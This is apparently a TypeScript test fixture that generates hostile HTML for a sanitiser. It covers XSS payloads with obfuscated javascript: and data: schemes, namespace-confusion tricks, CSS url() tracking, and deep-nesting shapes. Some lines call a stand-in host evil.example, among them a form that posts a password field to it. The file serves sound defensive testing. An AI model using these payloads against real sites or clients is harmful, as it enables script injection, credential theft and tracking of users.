// Hostile HTML for the sanitiser: hand-written classics plus generated combinations of tags,
// event handlers, URL attributes and scheme obfuscations.
import { MAX_HTML_DEPTH } from '../../src/ingest/stages/html-depth.js';

const URL_SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u00a0\u2028javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\u0000script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097vascript:alert(1)',
  'javascript&colon;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  '/relative/path',
  'livescript:alert(1)',
  'file:///etc/passwd',
];

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'data', 'srcdoc', 'srcset', 'cite', 'longdesc', 'lowsrc', 'dynsrc', 'data-remote-src', 'data-cid'];
const URL_TAGS = ['a', 'img', 'form', 'button', 'input', 'iframe', 'area', 'object', 'embed', 'video', 'audio', 'source', 'table', 'td', 'blockquote', 'link', 'base', 'image'];

const EVENT_TAGS = [
  'a', 'abbr', 'b', 'blockquote', 'body', 'br', 'center', 'div', 'font', 'h1', 'hr', 'i', 'img', 'li', 'ol', 'p', 'pre',
  'span', 'table', 'td', 'tr', 'ul', 'video', 'audio', 'details', 'marquee', 'select', 'textarea', 'input', 'svg',
  'math', 'frameset', 'object', 'iframe', 'style', 'xmp', 'template', 'noscript', 'isindex', 'keygen', 'bgsound',
];
const EVENTS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'OnClIcK'];

const HAND_WRITTEN = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)//',
  '<img src="x" onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<style><img title="</style><img src onerror=alert(1)>"></style>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//"><a href="x">x</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<style>body{background:url(https://evil.example/t.gif)}</style>',
  '<div style="background:url(https://evil.example/t.gif)">x</div>',
  '<div style="background-image:url(&quot;https://evil.example/t.gif&quot;)">x</div>',
  '<div style="background-image: u\\72 l(https://evil.example/t.gif)">x</div>',
  '<div style="background:\\75\\72\\6C(https://evil.example/t.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
  '<div style="list-style-image:image-set(\'https://evil.example/t.gif\' 1x)">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="font-family:\'a\';background:url(//evil.example)">x</div>',
  '<table background="https://evil.example/t.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_self" rel="opener">x</a>',
  '<a href="https://ok.example/"><img src="https://evil.example/t.gif" srcset="https://evil.example/2x.gif 2x"></a>',
  '<picture><source srcset="https://evil.example/t.gif"><img src="cid:unknown"></picture>',
  '<img src="cid:logo@mail" onerror="alert(1)">',
  '<img src="data:image/png;base64,iVBORw0KGgo=" onload="alert(1)">',
  '<input type="image" src="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button>',
  '<form action="https://evil.example/steal"><input name="password" type="password"></form>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<div id="x" class="x" data-foo="javascript:alert(1)">x</div>',
  '<p>safe</p><p title="<script>alert(1)</script>">t</p>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '<div>' + '<div>'.repeat(500) + 'deep' + '</div>'.repeat(501),
  '<img src=`javascript:alert(1)`>',
  '<a href=javascript:alert(1)>x</a>',
  '<a/href="javascript:alert(1)">x</a>',
  '<img/src/onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<applet code="x"></applet><isindex action="javascript:alert(1)" type=image>',
  '<plaintext><img src=x onerror=alert(1)>',
];

// Resource-abuse shapes (bench/hostile-html-bench.ts times them at megabyte sizes): small
// copies here, to check that whatever the depth bound and the image removal do, nothing leaks.
const PAYLOAD = '<img src=x onerror=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">j</a>';
const RESOURCE_SHAPES = [
  '<div>'.repeat(MAX_HTML_DEPTH + 1) + PAYLOAD,
  '<div>'.repeat(MAX_HTML_DEPTH) + PAYLOAD + '</div>'.repeat(MAX_HTML_DEPTH),
  '<table><tr><td>'.repeat(400) + PAYLOAD,
  '<a href="http://x">'.repeat(MAX_HTML_DEPTH + 5) + PAYLOAD,
  '<div><svg></div>'.repeat(MAX_HTML_DEPTH + 1) + PAYLOAD,
  '<div><svg></div>'.repeat(50) + PAYLOAD,
  '<blockquote>'.repeat(300) + PAYLOAD,
  '</span><div>'.repeat(300) + PAYLOAD,
  '<p>t<img src="javascript:alert(1)"><img src="cid:nope">'.repeat(200) + PAYLOAD,
  '<'.repeat(2000) + PAYLOAD,
  '<a'.repeat(500) + PAYLOAD,
  '<a@b'.repeat(500) + PAYLOAD,
  '<a "'.repeat(300) + PAYLOAD,
];

export function hostileHtml(): string[] {
  const cases = [...HAND_WRITTEN, ...RESOURCE_SHAPES];
  for (const tag of EVENT_TAGS) {
    cases.push(`<${tag} ${EVENTS.map((e) => `${e}="alert(1)"`).join(' ')}>x</${tag}>`);
  }
  for (const tag of URL_TAGS) {
    for (const attr of URL_ATTRIBUTES) {
      for (const scheme of URL_SCHEMES) cases.push(`<${tag} ${attr}="${scheme.replace(/"/g, '&quot;')}">x</${tag}>`);
    }
  }
  for (const scheme of URL_SCHEMES) cases.push(`<svg><a xlink:href="${scheme}"><text>x</text></a></svg>`, `<math href="${scheme}">x</math>`);
  return cases;
}
